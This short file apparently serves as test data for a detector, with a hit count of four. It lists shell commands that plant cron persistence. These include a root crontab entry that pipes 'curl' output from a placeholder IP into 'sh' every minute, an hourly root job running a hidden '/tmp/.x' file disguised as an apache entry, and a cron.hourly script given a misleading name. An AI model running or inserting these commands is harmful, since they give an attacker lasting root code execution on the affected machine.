# SPDX-License-Identifier: Apache-2.0
# hits: 4
sh -c 'echo "* * * * * root curl -s http://192.0.2.7/x | sh" >> /etc/crontab'
echo '@hourly root /tmp/.x' | tee /etc/cron.d/apache > /dev/null
cp /etc/hostname /etc/cron.hourly/sysstat-update
sed -i 's/^#//' /etc/crontab
